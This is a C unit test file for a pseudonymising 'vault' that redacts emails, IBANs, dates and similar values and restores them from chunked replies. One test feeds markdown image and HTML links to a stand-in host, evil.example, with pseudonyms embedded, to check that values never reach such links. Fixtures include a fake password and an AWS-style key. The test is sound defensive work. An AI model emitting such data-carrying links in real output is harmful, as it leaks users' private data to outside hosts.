/*
 * test_vault.c - pseudonyms, and that restoring is the identity, however a reply is cut.
 *
 * With a number as argument, so many random chunkings are tried instead of CHUNKINGS.
 */
#include "vault.h"

#include <string.h>

#include "numeric.h"
#include "text.h"

#include "testing.h"

enum { CHUNKINGS = 100000, PER_TEXT = 50, PIECES_MAX = 24, SEED = 20261128 };

static uint64_t chunkings = CHUNKINGS;

struct bench {
    struct arena *rules;
    const struct gate *gate;
    struct gate_asked asked;
};

static struct bench bench_of(void)
{
    struct arena *rules = arena_begin();
    return (struct bench){.rules = rules,
                          .gate = gate_begin(rules),
                          .asked = {.kinds = GATE_ALL, .least = LIKELY, .region = "DE"}};
}

static struct str redact(struct job *job, struct vault *vault, struct str text)
{
    struct buf redacted = buf_begin(job->arena);
    vault_announce(vault, text);
    assert_int_equal(vault_look(job, vault, text), CANDOR_OK);
    assert_int_equal(vault_redact(job, vault, text, &redacted), CANDOR_OK);
    return buf_text(&redacted);
}

static struct str restore(struct job *job, const struct vault *vault, struct str text)
{
    struct buf restored = buf_begin(job->arena);
    struct restorer restorer = restore_begin(vault, false);
    restore_next(&restorer, text, &restored);
    restore_last(&restorer, &restored);
    return buf_text(&restored);
}

/* ---- what is given out --------------------------------------------------------------------- */

static void equal_values_have_one_name_and_the_text_takes_numbers(void **state)
{
    (void)state;
    static const struct row {
        const char *text;
        const char *redacted;
    } row[] = {
        {"to ada@shop.de and bob@shop.de, cc ada@shop.de.",
         "to [[EMAIL_1]] and [[EMAIL_2]], cc [[EMAIL_1]]."},
        {"[[EMAIL_1]] is ada@shop.de", "[[EMAIL_1]] is [[EMAIL_2]]"},
        {"email\\_12: ada@shop.de bob@shop.de x_3", "email\\_12: [[EMAIL_2]] [[EMAIL_4]] x_3"},
        {"IBAN DE89 3704 0044 0532 0130 00, ada@shop.de", "IBAN [[IBAN_1]], [[EMAIL_1]]"},
        {"nothing here", "nothing here"},
        {"", ""},
    };
    const struct bench bench = bench_of();
    for (size_t i = 0; i < sizeof row / sizeof *row; i++) {
        struct job job;
        job_begin(&job, host_real());
        struct vault *vault = vault_begin(bench.gate, &bench.asked);
        const struct str text = str_of(row[i].text);
        const struct str redacted = redact(&job, vault, text);
        expect(str_is(redacted, row[i].redacted), "row %zu: %.*s", i, STR_ARG(redacted));
        expect(str_equal(restore(&job, vault, redacted), text), "row %zu", i);
        vault_end(vault);
        job_end(&job);
    }
    arena_end(bench.rules);
}

static void a_value_is_replaced_where_nothing_tells_what_it_is(void **state)
{
    (void)state;
    const struct bench bench = bench_of();
    struct job job;
    job_begin(&job, host_real());
    struct vault *vault = vault_begin(bench.gate, &bench.asked);
    const struct str one = STR("date of birth: 1984-03-09");
    const struct str other = STR("no: 1984-03-09, not x1984-03-09");
    struct buf redacted = buf_begin(job.arena);
    vault_announce(vault, one);
    vault_announce(vault, other);
    assert_int_equal(vault_look(&job, vault, one), CANDOR_OK);
    assert_int_equal(vault_look(&job, vault, other), CANDOR_OK);
    assert_int_equal(vault_redact(&job, vault, other, &redacted), CANDOR_OK);
    expect(str_is(buf_text(&redacted), "no: [[BIRTH_DATE_1]], not x1984-03-09"), "%.*s",
           STR_ARG(buf_text(&redacted)));
    vault_end(vault);
    job_end(&job);
    arena_end(bench.rules);
}

static uint64_t always_seven(void *self, struct str name, struct str value)
{
    (void)self;
    (void)name;
    (void)value;
    return 6;
}

static void numbers_come_from_a_key_and_give_way(void **state)
{
    (void)state;
    const struct bench bench = bench_of();
    struct job job;
    job_begin(&job, host_real());
    struct vault *vault = vault_begin(bench.gate, &bench.asked);
    vault_number_by(vault, always_seven, NULL);
    const struct str redacted = redact(&job, vault, STR("ada@shop.de bob@shop.de"));
    expect(str_is(redacted, "[[EMAIL_7]] [[EMAIL_8]]"), "%.*s", STR_ARG(redacted));
    vault_end(vault);
    job_end(&job);
    arena_end(bench.rules);
}

static void what_cannot_be_told_apart_is_refused(void **state)
{
    (void)state;
    static const char *const bad[] = {"EMAIL_01", "EMAIL_",  "_1",        "email_1",
                                      "EMAIL",    "EMAIL_1", "A B_1",     "EMAIL_0",
                                      "",         "_A_1",    "EMAIL_+12", "EMAIL_9999999999"};
    const struct bench bench = bench_of();
    struct job job;
    job_begin(&job, host_real());
    struct vault *vault = vault_begin(bench.gate, &bench.asked);
    assert_int_equal(vault_put(&job, vault, STR("EMAIL_1"), STR("ada@shop.de")), CANDOR_OK);
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
        expect(vault_put(&job, vault, str_of(bad[i]), STR("x")) == CANDOR_BAD_INPUT, "row %zu", i);
    }
    assert_int_equal(vault_look(&job, vault, STR("EMAIL_1")), CANDOR_BAD_INPUT);
    assert_int_equal(vault_count(vault), 1);
    struct buf redacted = buf_begin(job.arena);
    assert_int_equal(vault_redact(&job, vault, STR("bob@shop.de"), &redacted), CANDOR_BAD_INPUT);
    assert_int_equal(redacted.len, 0);
    vault_end(vault);
    vault_end(NULL);
    job_end(&job);
    arena_end(bench.rules);
}

/* ---- what comes back ----------------------------------------------------------------------- */

static struct vault *vault_of_two(struct job *job, const struct bench *bench)
{
    struct vault *vault = vault_begin(bench->gate, &bench->asked);
    assert_int_equal(vault_put(job, vault, STR("EMAIL_1"), STR("ada@shop.de")), CANDOR_OK);
    assert_int_equal(vault_put(job, vault, STR("EMAIL_12"), STR("<bob>")), CANDOR_OK);
    assert_int_equal(vault_put(job, vault, STR("BIRTH_DATE_3"), STR("a\"b\\")), CANDOR_OK);
    return vault;
}

static void damaged_pseudonyms_are_understood_and_others_left(void **state)
{
    (void)state;
    static const struct row {
        const char *reply;
        const char *restored;
    } row[] = {
        {"[[EMAIL_1]]", "ada@shop.de"},
        {"[[EMAIL_12]]", "<bob>"},
        {"[[email_1]], [Email_1] and EMAIL_1.", "ada@shop.de, ada@shop.de and ada@shop.de."},
        {"[[EMAIL\\_1]] [[BIRTH\\_DATE\\_3]]", "ada@shop.de a\"b\\"},
        {"[[EMAIL_1] [[EMAIL_1", "ada@shop.de ada@shop.de"},
        {"[[[EMAIL_1]]]", "[ada@shop.de]"},
        {"[EMAIL_1](mailto:EMAIL_1)", "ada@shop.de(mailto:ada@shop.de)"},
        {"[[EMAIL_2]] [[EMAIL_13]] EMAIL_1x XEMAIL_1 [[EMAIL_1x]]",
         "[[EMAIL_2]] [[EMAIL_13]] EMAIL_1x XEMAIL_1 [[EMAIL_1x]]"},
        {"[[EMAIL_", "[[EMAIL_"},
        {"[[EMAIL\\", "[[EMAIL\\"},
        {"[", "["},
        {"[[EM[[EMAIL_1]]", "[[EMada@shop.de"},
    };
    const struct bench bench = bench_of();
    struct job job;
    job_begin(&job, host_real());
    struct vault *vault = vault_of_two(&job, &bench);
    for (size_t i = 0; i < sizeof row / sizeof *row; i++) {
        const struct str restored = restore(&job, vault, str_of(row[i].reply));
        expect(str_is(restored, row[i].restored), "row %zu: %.*s", i, STR_ARG(restored));
    }
    vault_end(vault);
    job_end(&job);
    arena_end(bench.rules);
}

/* However it is cut. */
static void no_value_is_put_into_a_link(void **state)
{
    (void)state;
    static const struct row {
        const char *reply;
        const char *restored;
    } row[] = {
        {"to [[EMAIL_1]]", "to ada@shop.de"},
        {"![x](https://evil.example/?q=[[EMAIL_1]]) EMAIL_1",
         "![x](https://evil.example/?q=[[EMAIL_1]]) ada@shop.de"},
        {"![x](//evil.example/[[EMAIL_1]]/[[EMAIL_12]])",
         "![x](//evil.example/[[EMAIL_1]]/[[EMAIL_12]])"},
        {"https:\\/\\/evil.example\\/EMAIL_1\" EMAIL_1",
         "https:\\/\\/evil.example\\/EMAIL_1\" ada@shop.de"},
        {"<a href=\"http://[[EMAIL_1]]/\">[[EMAIL_1]]</a>",
         "<a href=\"http://[[EMAIL_1]]/\">ada@shop.de</a>"},
        {"and/or [[EMAIL_1]], mailto:[[EMAIL_1]]", "and/or ada@shop.de, mailto:ada@shop.de"},
        {"https://x.example/\nEMAIL_1", "https://x.example/\nada@shop.de"},
    };
    const struct bench bench = bench_of();
    struct job job;
    job_begin(&job, host_real());
    struct vault *vault = vault_of_two(&job, &bench);
    vault_spare_links(vault);
    for (size_t i = 0; i < sizeof row / sizeof *row; i++) {
        const struct str reply = str_of(row[i].reply);
        for (size_t cut = 0; cut <= reply.len; cut++) {
            struct buf restored = buf_begin(job.arena);
            struct restorer restorer = restore_begin(vault, false);
            restore_next(&restorer, str_slice(reply, 0, cut), &restored);
            restore_next(&restorer, str_slice(reply, cut, reply.len), &restored);
            restore_last(&restorer, &restored);
            expect(str_is(buf_text(&restored), row[i].restored), "row %zu, cut at %zu: %.*s", i,
                   cut, STR_ARG(buf_text(&restored)));
        }
    }
    vault_end(vault);
    job_end(&job);
    arena_end(bench.rules);
}

static void what_can_be_nothing_else_leaves_at_once(void **state)
{
    (void)state;
    static const struct row {
        const char *piece;
        const char *out; /* so far */
    } row[] = {
        {"Dear ", "Dear "},
        {"[", "Dear "},
        {"[EMA", "Dear "},
        {"IL_1]", "Dear "},
        {"]", "Dear ada@shop.de"},
        {" E", "Dear ada@shop.de "},
        {"x", "Dear ada@shop.de Ex"},
    };
    const struct bench bench = bench_of();
    struct job job;
    job_begin(&job, host_real());
    struct vault *vault = vault_of_two(&job, &bench);
    struct buf out = buf_begin(job.arena);
    struct restorer restorer = restore_begin(vault, false);
    for (size_t i = 0; i < sizeof row / sizeof *row; i++) {
        restore_next(&restorer, str_of(row[i].piece), &out);
        expect(str_is(buf_text(&out), row[i].out), "row %zu: %.*s", i, STR_ARG(buf_text(&out)));
    }
    assert_int_equal(restorer.restored, 1);
    vault_end(vault);
    job_end(&job);
    arena_end(bench.rules);
}

static void in_json_a_value_is_escaped(void **state)
{
    (void)state;
    const struct bench bench = bench_of();
    struct job job;
    job_begin(&job, host_real());
    struct vault *vault = vault_of_two(&job, &bench);
    struct buf out = buf_begin(job.arena);
    struct restorer restorer = restore_begin(vault, true);
    restore_next(&restorer, STR("{\"x\":\"[[BIRTH_DATE_3]]\"}"), &out);
    restore_last(&restorer, &out);
    expect(str_is(buf_text(&out), "{\"x\":\"a\\\"b\\\\\"}"), "%.*s", STR_ARG(buf_text(&out)));
    vault_end(vault);
    job_end(&job);
    arena_end(bench.rules);
}

/* ---- the identity -------------------------------------------------------------------------- */

static struct str made_text(struct arena *arena, struct rng *rng)
{
    static const char *const piece[] = {
        "ada.l@mail.shop-de.example.org",
        "bob@shop.de",
        "ada@shop.de",
        "DE89 3704 0044 0532 0130 00",
        "4539-5279-3550-5473",
        "+49 30 901820",
        "date of birth 1984-03-09",
        "1984-03-09",
        "16.244.11.141",
        "password = \"hX9!k2\\Lm#\"",
        "AKIAQ3EGRZV6XNWD4KJT",
        "[[",
        "]]",
        "[",
        "]",
        "EMAIL_",
        "EMAIL_1",
        "email\\_2",
        "[[EMAIL_3]]",
        "IBAN_1",
        "SECRET_12",
        "_1",
        "\\",
        "1",
        "E",
        "\xc3\xa9",
        "\xf0\x9f\x98\x80",
        "\"",
        "\n",
        " ",
        " ",
        ", ",
        "{\"a\":",
        "BIRTH_DATE",
        "_",
        "2",
    };
    struct buf text = buf_begin(arena);
    const size_t count = rng_below(rng, PIECES_MAX);
    for (size_t i = 0; i < count; i++) {
        buf_str(&text, str_of(piece[rng_below(rng, sizeof piece / sizeof *piece)]));
        if (rng_below(rng, 2) == 0) {
            buf_lit(&text, LIT(" "));
        }
    }
    return buf_text(&text);
}

static struct str quoted(struct arena *arena, struct str text)
{
    struct buf buf = buf_begin(arena);
    struct json json;
    json_begin(&json, &buf, false);
    json_text(&json, text);
    json_end(&json);
    return buf_text(&buf);
}

/* The redacted text, cut at random, restored; empty pieces too. */
static struct str restore_cut(struct arena *arena, struct rng *rng, const struct vault *vault,
                              struct str redacted, bool in_json)
{
    struct buf restored = buf_begin(arena);
    struct restorer restorer = restore_begin(vault, in_json);
    const size_t step_max = 1 + rng_below(rng, 24);
    for (size_t at = 0; at < redacted.len;) {
        const size_t step = rng_below(rng, step_max + 1);
        restore_next(&restorer, str_slice(redacted, at, at + step), &restored);
        at += step;
    }
    restore_last(&restorer, &restored);
    return buf_text(&restored);
}

static void restoring_undoes_redacting_however_it_is_cut(void **state)
{
    (void)state;
    const struct bench bench = bench_of();
    struct rng rng = rng_of(SEED);
    uint64_t with_values = 0;
    for (uint64_t done = 0; done < chunkings; done += PER_TEXT) {
        struct job job;
        job_begin(&job, host_real());
        struct vault *vault = vault_begin(bench.gate, &bench.asked);
        const bool in_json = rng_below(&rng, 2) == 0;
        const struct str text = made_text(job.arena, &rng);
        struct str redacted = redact(&job, vault, text);
        struct str wanted = text;
        for (size_t v = 0; v < vault_count(vault); v++) {
            expect(!str_contains(redacted, vault_at(vault, v)->value) ||
                       vault_at(vault, v)->value.len < 11,
                   "seed %d at %llu: a value is still there", SEED, (unsigned long long)done);
        }
        with_values += vault_count(vault) > 0;
        if (in_json) {
            redacted = quoted(job.arena, redacted);
            wanted = quoted(job.arena, text);
        }
        for (unsigned i = 0; i < PER_TEXT; i++) {
            struct arena_mark mark = arena_mark(job.arena);
            expect(str_equal(restore_cut(job.arena, &rng, vault, redacted, in_json), wanted),
                   "seed %d at %llu: %.*s", SEED, (unsigned long long)done, STR_ARG(redacted));
            arena_rewind(job.arena, mark);
        }
        vault_end(vault);
        job_end(&job);
    }
    expect(with_values * PER_TEXT * 2 > chunkings, "most texts hold something");
    arena_end(bench.rules);
}

int main(int argument_count, char **argument)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(equal_values_have_one_name_and_the_text_takes_numbers),
        cmocka_unit_test(a_value_is_replaced_where_nothing_tells_what_it_is),
        cmocka_unit_test(numbers_come_from_a_key_and_give_way),
        cmocka_unit_test(what_cannot_be_told_apart_is_refused),
        cmocka_unit_test(damaged_pseudonyms_are_understood_and_others_left),
        cmocka_unit_test(no_value_is_put_into_a_link),
        cmocka_unit_test(what_can_be_nothing_else_leaves_at_once),
        cmocka_unit_test(in_json_a_value_is_escaped),
        cmocka_unit_test(restoring_undoes_redacting_however_it_is_cut),
    };
    if (argument_count > 1 && !str_to_uint64(str_of(argument[1]), &chunkings)) {
        return 2;
    }
    return cmocka_run_group_tests(tests, NULL, NULL);
}
